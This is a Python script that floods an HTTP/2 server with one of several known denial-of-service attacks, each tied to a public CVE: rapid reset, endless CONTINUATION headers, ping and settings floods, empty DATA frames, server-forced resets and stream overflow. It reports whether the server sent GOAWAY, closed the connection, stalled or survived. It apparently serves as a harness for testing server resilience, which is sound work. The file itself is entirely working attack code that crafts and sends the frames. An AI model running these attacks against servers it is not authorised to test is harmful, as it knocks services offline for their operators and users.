"""Attacks an HTTP/2 server at ADDRESS in one of the known ways, for at most a few seconds.

Prints `ENDED SENT`: how the connection ended (`goaway CODE`, `closed`, `stalled` when the server stopped
reading, `survived`), and how many frames it took until then.
"""

import select
import socket
import struct
import sys
import time

from peer import parse

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
# :method GET, :scheme http, :path /, :authority a
REQUEST = b"\x82\x86\x84\x41\x01a"
# The same, to be answered late.
SLOW = b"\x82\x86\x04\x0c/slow?ms=500\x41\x01a"
MOST = 200_000
SECONDS = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def rapid_reset(number):
    """CVE-2023-44487."""
    stream = 2 * number + 1
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, SLOW) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def continuation(number):
    """CVE-2024-27316: a head that never ends."""
    if number == 0:
        return frame(HEADERS, END_STREAM, 1, REQUEST)
    return frame(CONTINUATION, 0, 1, b"\x00\x08x-filler\x08" + b"%08d" % number)


def empty_continuation(number):
    if number == 0:
        return frame(HEADERS, END_STREAM, 1, REQUEST)
    return frame(CONTINUATION, 0, 1)


def ping(number):
    """CVE-2019-9512."""
    return frame(PING, 0, 0, struct.pack(">Q", number))


def settings(_number):
    """CVE-2019-9515."""
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))


def empty_data(number):
    """CVE-2019-9518."""
    if number == 0:
        return frame(HEADERS, END_HEADERS, 1, REQUEST)
    return frame(DATA, 0, 1)


def made_to_reset(number):
    """CVE-2025-8671: requests that the server itself has to reset."""
    stream = 2 * number + 1
    request = frame(HEADERS, END_HEADERS | END_STREAM, stream, SLOW)
    return request + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def streams(number):
    """More at once than the server allows."""
    return frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, SLOW)


class Server:
    def __init__(self, connection, reads):
        self.connection, self.reads, self.buffer, self.ended = connection, reads, b"", None

    def read(self):
        """Reads what is there, if this client reads at all."""
        while self.reads and self.ended is None and select.select([self.connection], [], [], 0)[0]:
            try:
                data = self.connection.recv(1 << 16)
            except ConnectionResetError:
                data = b""
            if not data:
                self.ended = "closed"
            self.buffer += data
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, payload = self.buffer[3], self.buffer[9:9 + length]
                self.buffer = self.buffer[9 + length:]
                if kind == GOAWAY:
                    self.ended = f"goaway {struct.unpack('>I', payload[4:8])[0]}"
                    return


def main():
    family, address = parse(sys.argv[1])
    name = sys.argv[2]
    attack = {f.__name__: f for f in (rapid_reset, continuation, empty_continuation, ping, settings, empty_data,
                                      made_to_reset, streams)}[name.removeprefix("deaf_")]
    is_deaf = name.startswith("deaf_")
    # More than all buffers on the way back hold.
    most, batch = (MOST * 10, 1000) if is_deaf else (MOST, 50)
    connection = socket.socket(family)
    if is_deaf:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.settimeout(10)
    connection.connect(address)
    server = Server(connection, reads=not is_deaf)
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    connection.setblocking(False)
    sent, left, until = 0, b"", time.monotonic() + SECONDS
    while server.ended is None and sent < most and time.monotonic() < until:
        server.read()
        if not left:
            left = b"".join(attack(number) for number in range(sent, sent + batch))
            sent += batch
        if not select.select([], [connection], [], 1)[1]:
            server.ended = "stalled"
            continue
        try:
            left = left[connection.send(left):]
        except (ConnectionResetError, BrokenPipeError):
            server.read()
            server.ended = server.ended or "closed"
    print(server.ended or "survived", sent)


main()
